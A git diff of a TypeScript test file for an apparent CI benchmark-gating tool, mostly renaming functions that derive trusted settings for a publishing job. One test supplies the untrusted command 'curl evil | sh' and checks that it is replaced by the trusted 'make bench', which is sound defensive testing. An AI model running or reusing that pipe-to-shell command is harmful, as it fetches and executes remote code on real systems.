@@ -2,9 +2,9 @@
 import { describe, expect, test } from 'vitest'
 import {
   judgeOtherJobsResults,
+  type PublishingJobFacts,
   settingsDifferingFromTrusted,
-  settingsOfPublishingJob,
-  type TrustedPublishingContext,
+  trustedSettingsOfPublishingJob,
 } from '../../../src/core/merge/judge-elsewhere.ts'
 import type { RunSettings } from '../../../src/core/model/settings.ts'
 import { renderReportWithinLimit } from '../../../src/core/report/say/fit-limit.ts'
@@ -14,7 +14,7 @@ import { commits, goSettings, resultFrom, settings, time } from '../report/runs.
 import { named, part } from './parts.ts'
 
 describe('judge elsewhere', () => {
-  const known: TrustedPublishingContext = {
+  const known: PublishingJobFacts = {
     inputs: readInputsWithSeed(name => (name === 'run' ? 'make bench' : '')),
     file: { file: '.github/benchgate.yml', changes: [] },
     rules: '3'.repeat(40),
@@ -91,13 +91,13 @@ describe('trusted settings', () => {
       failOn: 'never',
       run: 'curl evil | sh',
     }
-    const ours = settingsOfPublishingJob(inputs({ run: 'make bench', threshold: '3%' }), theirs)
+    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', threshold: '3%' }), theirs)
     expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
   })
 
   test('the command is ours, that of the Go driver by our inputs, or not known', () => {
     const run = (given: Readonly<Record<string, string>>, theirs: RunSettings) =>
-      settingsOfPublishingJob(inputs(given), theirs).run
+      trustedSettingsOfPublishingJob(inputs(given), theirs).run
     expect(run({}, settings)).toBe('')
     expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
       "-bench 'Encode'".replaceAll("'", ''),
@@ -106,13 +106,13 @@ describe('trusted settings', () => {
   })
 
   test('a calibration is judged as a gate', () => {
-    const ours = settingsOfPublishingJob(inputs({ calibrate: 'true' }), settings)
+    const ours = trustedSettingsOfPublishingJob(inputs({ calibrate: 'true' }), settings)
     expect(ours.calibrate).toBe(false)
   })
 
   const told = (given: Readonly<Record<string, string>>, theirs: Partial<RunSettings>) => {
     const measured = { ...settings, run: 'make bench', ...theirs }
-    const ours = settingsOfPublishingJob(inputs({ run: 'make bench', ...given }), measured)
+    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', ...given }), measured)
     return settingsDifferingFromTrusted(ours, measured).map(
       ({ rule, base, head }) => `${rule}: ${head} for ${base}`,
     )
@@ -136,7 +136,7 @@ describe('trusted settings', () => {
       run: 'x',
       go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
     }
-    const ours = settingsOfPublishingJob(inputs({ 'working-directory': './sub/' }), theirs)
+    const ours = trustedSettingsOfPublishingJob(inputs({ 'working-directory': './sub/' }), theirs)
     expect(settingsDifferingFromTrusted(ours, theirs)).toEqual([
       { rule: 'working-directory', base: 'sub', head: '.' },
       { rule: 'bench', base: '.', head: 'Fast' },
